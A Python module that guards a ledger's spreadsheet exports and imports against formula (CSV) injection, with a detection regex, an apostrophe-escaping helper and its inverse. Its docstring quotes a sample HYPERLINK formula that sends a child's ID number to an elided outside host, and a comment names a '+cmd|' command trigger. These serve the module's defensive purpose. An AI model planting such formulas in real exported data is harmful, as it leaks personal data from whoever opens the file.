"""Text that a spreadsheet program would take for a formula (formula or CSV injection).

A ledger cell reading `=HYPERLINK("http://…?d="&F2, "…")`, stored as text, comes back in an
export; written as it is, Excel makes it a live link that sends the child's ID number (cell F2)
away when clicked. So every exported text cell is written as text (`excel_text`), an import
reports such cells (`suspicious`), and a CSV, which has no cell types, gets a leading
apostrophe (`csv_text`) that an import takes off again (`unescape`).
"""

from __future__ import annotations

import re

# What makes Excel, WPS or LibreOffice read a cell as a formula when it is typed or opened
# from CSV: "=", "+", "-" or "@" first.
TRIGGERS = ("=", "+", "-", "@")
# Excel's error values: text equal to one is written as an error cell unless typed as text.
ERROR_VALUES = frozenset(
    ("#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A", "#GETTING_DATA")
)
# A trigger, then (after more signs, brackets or spaces) a letter: a function, a name or a
# reference (=HYPERLINK(…), +cmd|…, @SUM(…), -A1). "-5" or "+86 138…" are not reported.
_SUSPICIOUS = re.compile(r"[=+\-@][\s=+\-@(]*[A-Za-z]")


def suspicious(text: str) -> bool:
    return _SUSPICIOUS.match(text) is not None


def needs_text_type(text: str) -> bool:
    """Would a spreadsheet writer (openpyxl: a leading "=") or a person editing the cell in
    Excel (any trigger) take this text for something else than text?"""
    return text.startswith(TRIGGERS) or text in ERROR_VALUES


def csv_text(text: str) -> str:
    """A CSV cell that Excel shows as text: a trigger gets a leading apostrophe."""
    return "'" + text if text.startswith(TRIGGERS) else text


def unescape(text: str) -> str:
    """The text again without the apostrophe `csv_text` put before a trigger."""
    return text[1:] if text.startswith("'") and text[1:].startswith(TRIGGERS) else text
